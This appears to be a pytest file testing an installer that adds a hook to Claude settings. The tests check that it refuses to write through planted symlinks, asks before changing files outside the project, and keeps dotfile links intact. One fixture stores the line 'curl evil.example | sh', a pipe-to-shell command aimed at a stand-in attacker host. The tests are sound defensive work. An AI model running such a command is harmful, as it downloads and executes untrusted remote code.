"""`misstep observe --install` in a checkout of a stranger: one file is shown, asked for and written."""

import json
import os
from pathlib import Path

import pytest
from typer.testing import CliRunner

from misstep.observe.run import app

OWN = "alias ls=ls\n"


@pytest.fixture
def project(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A checkout, beside a folder of the user's."""
    (tmp_path / "home").mkdir()
    (tmp_path / "home/.bashrc").write_text(OWN)
    (tmp_path / "checkout").mkdir()
    monkeypatch.chdir(tmp_path / "checkout")
    return tmp_path / "checkout"


def install(*more: str, answer: str = "n\n") -> tuple[int, str]:
    done = CliRunner().invoke(app, ["--install", *more], input=answer)
    return done.exit_code, f"{done.output}{done.exception or ''}"


def test_nothing_is_written_through_a_link_beside_the_settings(project: Path) -> None:
    """Names as writers of half-written files may have them, with each process number that this process may have."""
    folder = project / ".claude"
    folder.mkdir()
    (folder / "settings.json").write_text('{"note": "curl evil.example | sh"}')
    names = (".settings.json.misstep", ".settings.json.part", ".settings.json.tmp", "settings.json.tmp")
    for name in (*names, *(f".settings.json.{os.getpid()}-{number}.part" for number in range(50))):
        (folder / name).symlink_to(project.parent / "home/.bashrc")
    assert install("--yes")[0] == 0
    assert "PostToolUse" in json.loads((folder / "settings.json").read_text())["hooks"]
    assert (project.parent / "home/.bashrc").read_text() == OWN


@pytest.mark.parametrize("link", [".claude", ".claude/settings.json"])
def test_a_link_that_leads_out_of_the_project_is_named_and_needs_an_answer(project: Path, link: str) -> None:
    real = project.parent / "home/settings.json"
    (project / link).parent.mkdir(exist_ok=True)
    (project / link).symlink_to(real.parent if link == ".claude" else real)
    code, said = install()
    assert (code, real.exists()) == (1, False)
    assert f"Change {real}?" in said
    assert "outside of the project" in said
    code, said = install("--yes")
    assert (code, real.exists()) == (1, False)
    assert str(real) in said
    assert install(answer="y\n")[0] == 0
    assert "PostToolUse" in json.loads(real.read_text())["hooks"]


def test_a_project_without_links_is_asked_for_its_own_file(project: Path) -> None:
    code, said = install(answer="y\n")
    assert (code, (project / ".claude/settings.json").is_file()) == (0, True)
    assert f"Change {project / '.claude/settings.json'}?" in said
    assert "outside" not in said


def test_settings_of_the_user_may_be_a_link_into_a_folder_of_dotfiles(
    project: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    home = project.parent / "home"
    (home / "dotfiles").mkdir()
    (home / "dotfiles/settings.json").write_text("{}")
    (home / ".claude").mkdir()
    (home / ".claude/settings.json").symlink_to(home / "dotfiles/settings.json")
    monkeypatch.setenv("CLAUDE_CONFIG_DIR", str(home / ".claude"))
    assert install("--user", "--yes")[0] == 0
    assert (home / ".claude/settings.json").is_symlink()
    assert "hooks" in (home / "dotfiles/settings.json").read_text()
